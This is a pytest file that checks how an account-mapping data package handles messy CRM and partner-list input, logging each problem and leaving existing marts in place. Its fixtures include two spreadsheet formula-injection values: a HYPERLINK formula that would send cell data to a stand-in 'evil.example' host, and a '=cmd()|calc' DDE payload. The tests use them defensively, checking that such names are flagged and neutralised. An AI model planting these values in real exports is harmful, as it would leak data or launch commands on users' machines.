"""Bad input: one clear error or a row in account_mapping__data_issues; nothing lost, the former marts left in place."""

from __future__ import annotations

import shutil
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from harness import PACKAGE, Project

LONG_NAME = "Endless " * 1300
PARTNERS = [
    {"partner_id": "nimbus", "partner_name": "Nimbus", "exchange": "list", "is_active": "true"},
    {"partner_id": "stratus", "partner_name": "Stratus", "exchange": "list", "is_active": "true"},
    {"partner_id": "cirrus", "partner_name": "Cirrus", "exchange": "list", "is_active": "true"},
]
MARTS = [
    "account_mapping__accounts",
    "account_mapping__matches",
    "account_mapping__overlaps",
    "account_mapping__overlap_matrix",
    "account_mapping__partner_coverage",
    "account_mapping__data_issues",
]
COVERAGE = "select * from account_mapping__partner_coverage where our_status = 'all' and rollup = 'account'"
ACCOUNT_COLUMNS = ["id", "name", "website", "type", "parent_id", "is_deleted", "master_record_id", "last_modified_date"]


def account(number: int, name: str | None, website: str | None = None, **columns: object) -> dict[str, object]:
    """A Salesforce account; its id is made from `number`."""
    return (
        dict.fromkeys(ACCOUNT_COLUMNS)
        | {"id": identifier(number), "name": name, "website": website, "is_deleted": False}
        | columns
    )


def identifier(number: int) -> str:
    """An 18-character Salesforce id whose suffix fits: digits and one capital A."""
    return f"001A{number:011d}IAA"[:18]


def typed(rows: list[dict[str, object]]) -> pa.Table:
    return pa.Table.from_pylist(
        rows, schema=pa.schema([(c, pa.bool_() if c == "is_deleted" else pa.string()) for c in ACCOUNT_COLUMNS])
    )


def snapshot(project: Project) -> dict[str, list[dict]]:
    return {mart: project.query(f"select * from {mart} order by all") for mart in MARTS}


MESSY_ACCOUNTS = [
    account(1, "Acme Corp", "acme.com", type="Customer"),
    account(2, "Acme Corp (old)", "acme.com", last_modified_date="2020-01-01"),
    account(2, "Acme Subsidiary", "acme-sub.com", last_modified_date="2026-01-01"),
    account(3, "Globex", "globex.com", type="Galactic Ally"),
    account(4, "Ring One", "ring-one.com", parent_id=identifier(5)),
    account(5, "Ring Two", "ring-two.com", parent_id=identifier(4)),
    account(6, LONG_NAME, "endless.example.net"),
    account(7, "Rocket 🚀 Works", "rocketworks.io"),
    account(8, "شركة الاتصالات السعودية", "stc.com.sa"),
    account(9, '=HYPERLINK("http://evil.example/?q="&A1,"Initech")', "initech.com"),
    account(10, "Umbrella", "www.expressl&t.net"),
    account(11, "Nu\0ll Byte Ltd", "nullbyte.com"),
    account(12, 'Quoted\n"Newline" GmbH', "quoted-newline.de"),
    account(13, "Orphan", "orphan.com", parent_id=identifier(999)),
]


@pytest.fixture(scope="module")
def messy(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A build over everything that is bad but no reason to stop, with all tests of the package, unit tests included."""
    folder = tmp_path_factory.mktemp("messy")
    lists = folder / "lists"
    lists.mkdir()
    (lists / "nimbus.csv").write_bytes(
        "\ufeffaccount_id,account_name,website\n"
        '1,Acme Corporation,https://www.acme.com/about\n2,"Quoted\nNewline",quoted-newline.de\n'
        '3,"=cmd()|calc",initech.com\n'.encode()
    )
    (lists / "stratus.csv").write_bytes(
        "account_id,account_name,website\n1,Société Globex,globex.com\n".encode("latin-1")
    )
    pq.write_table(pa.table({"account_id": [str(i) for i in range(5000)]}), lists / "cirrus.parquet")
    whole = (lists / "cirrus.parquet").read_bytes()
    (lists / "cirrus.parquet").write_bytes(whole[: len(whole) // 2])
    (lists / "mystery.csv").write_text("account_id,account_name\n1,Who Knows\n")

    project = Project(
        folder / "project",
        variables={
            # the CRMs with which every unit test is on
            "account_mapping__crms": ["salesforce", "hubspot"],
            "account_mapping__unit_tests": True,
            "account_mapping__partner_lists_path": str(lists / "*"),
            "account_mapping__as_of": "2026-11-15",
        },
    )
    project.write_table("salesforce.account", typed(MESSY_ACCOUNTS))
    project.write_table("hubspot.companies", "select 1 as id, 'x' as name where false")
    project.write_seed("account_mapping__partners", PARTNERS)
    result = project.run("build")
    assert result.success, result.text
    units = {
        test["name"]: test["model"]
        for path in (PACKAGE / "models").rglob("*.yml")
        for test in yaml.safe_load(path.read_text()).get("unit_tests", ())
        # test_alerts.py runs those that need history
        if "and var('account_mapping__history')" not in str(test.get("config"))
    }
    assert len(units) > 20
    # no other test runs them; those of a public model are named after its version too
    names = [f"{name}_v1" if model.startswith("account_mapping__") else name for name, model in units.items()]
    assert {name: result.statuses.get(name) for name in names} == dict.fromkeys(names, "pass")
    return project


def issues(project: Project, problem: str) -> list[dict]:
    return project.query(f"select * from account_mapping__data_issues where problem = '{problem}' order by all")


@pytest.mark.parametrize(
    ("problem", "row_keys"),
    [
        ("duplicate_id", [identifier(2)]),
        ("unknown_status_value", ["account_type"]),
        ("cyclic_parents", [identifier(4), identifier(5)]),
        ("unknown_parent", [identifier(13)]),
        ("name_too_long", [f"salesforce:{identifier(6)}"]),
        ("name_emoji", [f"salesforce:{identifier(7)}"]),
        ("name_right_to_left", [f"salesforce:{identifier(8)}"]),
        ("name_formula", ["nimbus:3", f"salesforce:{identifier(9)}"]),
        ("invalid_domain", [identifier(10)]),
        ("name_control_characters", [f"salesforce:{identifier(11)}"]),
        ("not_utf_8", ["(whole file)"]),
        ("unreadable_file", ["(whole file)"]),
        ("file_of_unknown_partner", ["(all)"]),
    ],
)
def test_each_problem_is_a_row_that_says_what_was_done(messy, problem, row_keys):
    rows = issues(messy, problem)
    assert sorted(row["row_key"] for row in rows) == sorted(row_keys)
    assert all(row["action"] for row in rows)


def test_the_issue_of_a_file_names_the_file(messy):
    assert [row["source"] for row in issues(messy, "unreadable_file")] == ["cirrus.parquet"]
    assert [row["source"] for row in issues(messy, "not_utf_8")] == ["stratus.csv"]


def test_no_account_is_lost_and_the_latest_of_two_rows_counts(messy):
    names = {row["source_account_id"]: row["name"] for row in messy.query("select * from account_mapping__accounts")}
    assert set(names) == {identifier(number) for number in range(1, 14)}
    assert names[identifier(2)] == "Acme Subsidiary"


def test_names_are_shown_safely(messy):
    names = {row["source_account_id"]: row["name"] for row in messy.query("select * from account_mapping__accounts")}
    assert names[identifier(6)].startswith("Endless Endless") and len(names[identifier(6)]) <= 255
    assert names[identifier(7)] == "Rocket 🚀 Works"
    assert names[identifier(8)] == "شركة الاتصالات السعودية"
    assert names[identifier(9)].startswith("'=HYPERLINK(")
    assert "\0" not in names[identifier(11)]


def test_good_files_beside_a_bad_one_are_matched(messy):
    rows = messy.query(
        "select partner_id, account_id, partner_account_id from account_mapping__overlaps where relationship = 'same'"
    )
    found = {(row["partner_id"], row["account_id"], row["partner_account_id"]) for row in rows}
    assert ("nimbus", f"salesforce:{identifier(1)}", "1") in found
    assert ("nimbus", f"salesforce:{identifier(9)}", "3") in found
    assert ("nimbus", f"salesforce:{identifier(12)}", "2") in found
    assert ("stratus", f"salesforce:{identifier(3)}", "1") in found


def test_a_cycle_has_its_least_id_as_root(messy):
    rows = messy.query(
        "select ultimate_parent_account_id as root from account_mapping__accounts "
        f"where source_account_id in ('{identifier(4)}', '{identifier(5)}')"
    )
    assert [row["root"] for row in rows] == [f"salesforce:{identifier(4)}"] * 2


def test_an_unreadable_list_is_an_empty_list_and_covers_nothing(messy):
    rows = messy.query(f"{COVERAGE} and partner_id = 'cirrus'")
    assert [(row["partner_accounts"], row["covered_accounts"], row["our_accounts"]) for row in rows] == [(0, 0, 13)]
    assert messy.query("select * from account_mapping__overlap_matrix where partner_id = 'cirrus'") == []


def test_all_marts_belong_to_one_build(messy):
    assert messy.query(
        "select build_id from account_mapping__build intersect select build_id from int_account_mapping__build"
    )


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A project with a good build behind it."""
    variables = {"account_mapping__crms": ["salesforce"], "account_mapping__as_of": "2026-11-15"}
    project = Project(tmp_path_factory.mktemp("small") / "project", variables=variables)
    project.write_table(
        "salesforce.account", typed([account(1, "Acme Corp", "acme.com"), account(2, "Globex", "globex.com")])
    )
    project.write_table(
        "partners.partner_accounts",
        [{"partner_id": "nimbus", "account_id": "1", "account_name": "Acme", "website": "acme.com"}],
    )
    project.write_seed("account_mapping__partners", PARTNERS[:1])
    project.make("*")
    return project


@pytest.fixture
def small(built: Project, tmp_path: Path) -> Project:
    """A copy of that project, to be spoilt."""
    shutil.copytree(built.folder, tmp_path / "project", symlinks=True)
    return Project(tmp_path / "project", variables=built.variables)


def breaks(project: Project, *words: str) -> None:
    """The next build fails, says `words` in one error, and leaves every mart as it was."""
    before = snapshot(project)
    result = project.run("build")
    assert not result.success
    told = [message for message in result.errors.values() if all(word in message for word in words)]
    assert len(told) == 1, result.text
    assert snapshot(project) == before
    assert project.query(
        "select marts.build_id <> latest.build_id as is_partial "
        "from account_mapping__build as marts cross join int_account_mapping__build as latest"
    ) == [{"is_partial": True}]


def test_a_missing_required_column_is_one_clear_error(small):
    small.write_table("salesforce.account", [{"name": "Acme Corp", "website": "acme.com"}])
    breaks(small, "salesforce", "account", "no column", "account_mapping__column_candidates")


def test_a_missing_required_table_is_one_clear_error(small):
    small.execute("drop table salesforce.account")
    breaks(small, "was not found", "salesforce_schema")


def test_a_duckdb_whose_joins_can_lose_rows_stops_the_build(small):
    small.execute("create macro version() as 'v1.5.2'")
    breaks(small, "DuckDB v1.5.2", "lose rows", "requirements.txt")


def test_a_settings_table_that_makes_no_sense_stops_the_build(small):
    small.write_seed("account_mapping__partners", [*PARTNERS[:1], *PARTNERS[:1]])
    before = snapshot(small)
    result = small.run("build")
    assert not result.success
    assert "stg_account_mapping__settings_partners" in result.text
    assert snapshot(small) == before


def test_an_empty_partner_list_leaves_a_partner_that_covers_nothing(small):
    small.execute("delete from partners.partner_accounts")
    small.make("*")
    assert small.query("select * from account_mapping__overlaps") == []
    coverage = small.query(COVERAGE)
    assert [(row["our_accounts"], row["covered_accounts"], row["partner_accounts"]) for row in coverage] == [(2, 0, 0)]
    assert [row["coverage_rate"] for row in coverage] == [0.0]
    assert [row["partner_match_rate"] for row in coverage] == [None]


def test_an_empty_crm_gives_empty_marts(small):
    small.write_table("salesforce.account", typed([]))
    small.make("*")
    assert small.query("select * from account_mapping__accounts") == []
    assert small.query("select * from account_mapping__overlap_matrix") == []
    coverage = small.query(COVERAGE)
    assert [(row["our_accounts"], row["coverage_rate"], row["partner_accounts"]) for row in coverage] == [(0, None, 1)]
